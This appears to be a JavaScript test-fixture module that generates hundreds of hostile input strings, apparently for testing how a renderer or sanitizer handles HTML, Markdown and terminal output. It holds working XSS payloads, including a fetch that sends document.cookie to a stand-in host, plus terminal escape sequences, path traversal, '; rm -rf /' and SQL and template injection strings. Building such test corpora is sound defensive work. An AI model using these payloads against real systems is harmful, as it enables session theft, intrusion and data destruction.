// Strings that try to become something else than text: HTML, Markdown, addresses, escapes of terminals, characters that
// cannot be seen. Combined from parts, so that there are more than five hundred.

const SCRIPTS = ["window.pwned=1", "alert(1)", "fetch('https://evil.example/'+document.cookie)", "import('https://evil.example/x.js')"];
const WRAPS = [
  (/** @type {string} */ js) => `<script>${js}</script>`,
  (/** @type {string} */ js) => `<img src=x onerror="${js}">`,
  (/** @type {string} */ js) => `<svg/onload=${js}>`,
  (/** @type {string} */ js) => `<svg><script>${js}</script></svg>`,
  (/** @type {string} */ js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (/** @type {string} */ js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  (/** @type {string} */ js) => `<details open ontoggle=${js}>x</details>`,
  (/** @type {string} */ js) => `<a href="javascript:${js}">x</a>`,
  (/** @type {string} */ js) => `[x](javascript:${js})`,
  (/** @type {string} */ js) => `[x](JaVaScRiPt:${js})`,
  (/** @type {string} */ js) => `[x](&#106;avascript:${js})`,
  (/** @type {string} */ js) => `[x](\u0001javascript:${js})`,
  (/** @type {string} */ js) => `[x](data:text/html,<script>${js}</script>)`,
  (/** @type {string} */ js) => `[x](vbscript:${js})`,
  (/** @type {string} */ js) => `[x](blob:https://evil.example/${js})`,
  (/** @type {string} */ js) => `![x](javascript:${js})`,
  (/** @type {string} */ js) => `![x](https://evil.example/p.png?${js})`,
  (/** @type {string} */ js) => `<https://evil.example/${js}>`,
  (/** @type {string} */ js) => `<javascript:${js}>`,
  (/** @type {string} */ js) => `[ref]\n\n[ref]: javascript:${js} "t"`,
  (/** @type {string} */ js) => "```html\n<script>" + js + "</script>\n```",
  (/** @type {string} */ js) => "```\" onclick=\"" + js + "\nx\n```",
  (/** @type {string} */ js) => `| a | b |\n|---|---|\n| <img src=x onerror=${js}> | ${js} |`,
  (/** @type {string} */ js) => `- [x] <input autofocus onfocus=${js}>`,
  (/** @type {string} */ js) => `# <h1 onclick=${js}>`,
  (/** @type {string} */ js) => `<base href="https://evil.example/"><link rel=stylesheet href="//evil.example/a.css">`,
  (/** @type {string} */ js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (/** @type {string} */ js) => `<form action="https://evil.example"><button formaction="javascript:${js}">x</button></form>`,
  (/** @type {string} */ js) => `"><script>${js}</script>`,
  (/** @type {string} */ js) => `'-${js}-'`,
  (/** @type {string} */ js) => `\${${js}}`,
  (/** @type {string} */ js) => `{{constructor.constructor('${js}')()}}`,
];
const FRAMES = [
  (/** @type {string} */ text) => text,
  (/** @type {string} */ text) => `> ${text}`,
  (/** @type {string} */ text) => `* ${text}\n  * ${text}`,
  (/** @type {string} */ text) => `**${text}**`,
];
const OTHERS = [
  "\u001b]52;c;ZXZpbA==\u0007", "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\", "\u001b]0;title\u0007", "\u001b[2J\u001b[H\u001b[?1049h", "\u001bc", "\u009b31m",
  "\u202etxt.exe", "a\u200bb\u2060c", "\u2066\u2067\u2068\u2069", "\ufeff", "\u0000", "\ud800", "Z\u0310\u0311\u0312".repeat(400), "﷽".repeat(200), "\n".repeat(500), " ".repeat(5000),
  "W".repeat(20_000), "a ".repeat(20_000), "[".repeat(3000), "*".repeat(3000), "> ".repeat(2000), "- ".repeat(500) + "x", "`".repeat(999), "|".repeat(2000) + "\n" + "|-".repeat(1000),
  "__proto__", "constructor", "toString", "%00", "%s%n%p", "../../../../etc/passwd", "\\\\evil\\share", "file:///etc/passwd", "//evil.example", "-rf", "; rm -rf /", "$(touch pwned)", "' OR 1=1 --", "NaN", "null", "undefined", "true", "1e999", "-0",
];

export const HOSTILE = [...SCRIPTS.flatMap((js) => WRAPS.flatMap((wrap) => FRAMES.map((frame) => frame(wrap(js))))), ...OTHERS];
